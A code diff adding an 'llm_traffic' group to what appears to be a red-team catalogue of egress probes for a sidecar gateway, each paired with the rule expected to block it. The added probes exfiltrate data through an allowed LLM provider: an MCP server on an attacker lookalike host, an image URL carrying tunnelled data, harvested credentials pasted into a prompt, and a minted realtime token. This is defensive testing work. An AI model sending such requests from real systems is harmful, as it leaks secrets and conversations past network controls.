@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import base64
 import dataclasses
+import json
 
 from sidecar.redteam.canaries import MARK, Canaries
 
@@ -78,6 +79,7 @@ GROUPS = (
     "direct_egress",
     "fronting_and_literals",
     "key_handling",
+    "llm_traffic",
 )
 
 
@@ -86,6 +88,7 @@ def build_catalogue(canaries: Canaries, provider: str = f"https://{PROVIDER}") -
     content attacks (fronting, keys) are aimed at."""
     run = canaries.run_id
     chat = f"{provider.rstrip('/')}/v1/chat/completions"
+    responses = f"{provider.rstrip('/')}/v1/responses"
     marked = f"{MARK}-{run}"
     harvest = canaries.harvest()
     exfil_host = f"{marked}.{LOOKALIKE}"
@@ -211,5 +214,37 @@ def build_catalogue(canaries: Canaries, provider: str = f"https://{PROVIDER}") -
               Http("GET", chat.replace("/chat/completions", "/models")
                    + f"?api_key={canaries.openai_key}"),
               frozenset({"gateway_holds_credential"}), through_provider=True),
+        # --- LLM traffic: the allowed provider used as a relay, secrets in prompts ---
+        Probe("mcp_server_on_the_lookalike_in_a_responses_request", "llm_traffic",
+              "the provider asked to call an MCP server the attacker runs, carrying the "
+              "conversation (the provider as a relay)",
+              Http("POST", responses, json_post, json.dumps({
+                  "model": "gpt-4o-mini", "input": "hi",
+                  "tools": [{"type": "mcp", "server_label": "x", "require_approval": "never",
+                             "server_url": f"https://{exfil_host}/mcp"}],
+              }).encode()),
+              frozenset({"provider_fetch_not_allowed"}), through_provider=True),
+        Probe("image_url_on_the_lookalike_for_the_provider_to_fetch", "llm_traffic",
+              "data carried in a URL the provider is asked to fetch",
+              Http("POST", chat, json_post, json.dumps({
+                  "model": "gpt-4o-mini",
+                  "messages": [{"role": "user", "content": [{"type": "image_url",
+                      "image_url": {"url": f"https://{exfil_host}/{tunnel_label[:32]}.png"}}]}],
+              }).encode()),
+              frozenset({"provider_fetch_not_allowed"}), through_provider=True),
+        Probe("credential_harvest_pasted_into_a_prompt", "llm_traffic",
+              "the harvest sent to an allowed provider inside a prompt, to be read back "
+              "from the provider account's logs",
+              Http("POST", chat, json_post, json.dumps({
+                  "model": "gpt-4o-mini",
+                  "messages": [{"role": "user", "content": harvest.decode()}],
+              }).encode()),
+              frozenset({"secret_in_request", "gateway_holds_credential"}),
+              through_provider=True),
+        Probe("realtime_client_secret_minted_for_outside_use", "llm_traffic",
+              "a token minted with our key that works from outside the pod",
+              Http("POST", f"{provider.rstrip('/')}/v1/realtime/client_secrets", json_post,
+                   b'{"session":{"type":"realtime","model":"gpt-realtime"}}'),
+              frozenset({"credential_minting_not_allowed"}), through_provider=True),
     ]  # fmt: skip
     return probes
